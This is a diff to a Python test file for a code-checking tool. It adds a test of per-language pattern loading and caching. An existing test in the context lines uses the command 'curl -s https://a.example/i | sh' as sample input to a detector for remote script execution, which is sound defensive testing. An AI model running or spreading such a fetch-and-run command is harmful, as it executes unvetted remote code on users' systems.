@@ -9,7 +9,7 @@ import pytest
 from orchestrator.catalog.data_file_layers import read_shipped_layer
 from orchestrator.checks import patterns
 from orchestrator.checks.check_io import CheckReply
-from orchestrator.checks.patterns.pattern_loading import load
+from orchestrator.checks.patterns.pattern_loading import load, load_language, read_definitions
 from orchestrator.code_review.rule_table import load_rules
 from orchestrator.data_directories import data_root
 
@@ -201,3 +201,19 @@ def test_a_script_that_the_grammar_hardly_parses_is_searched_since_shellcheck_re
 ) -> None:
     text = "curl -s https://a.example/i | sh\n" + "case ) in (( esac fi }\n" * 9
     assert codes(tmp_path, "a.sh", text) == ["shell-remote-script"]
+
+
+@pytest.mark.parametrize(("suffix", "read"), [(".py", ["python"]), (".go", ["go"]), (".txt", [])])
+def test_only_the_file_of_a_language_is_parsed_for_it(tmp_path, suffix, read):
+    files = []
+    for file in FILES:  # where nobody has read them yet
+        files.append(str(tmp_path / Path(file).name))
+        Path(files[-1]).write_bytes(Path(file).read_bytes())
+    before = read_definitions.cache_info().misses
+    language = load_language(tuple(files), suffix)
+    assert (language is not None) == bool(read)
+    assert read_definitions.cache_info().misses == before + len(read)
+    more = tmp_path / "more.yaml"
+    more.write_text('"extends" : go\npatterns: []\n')
+    assert load_language((*files, str(more)), suffix) == language
+    assert read_definitions.cache_info().misses == before + len(read) + 1
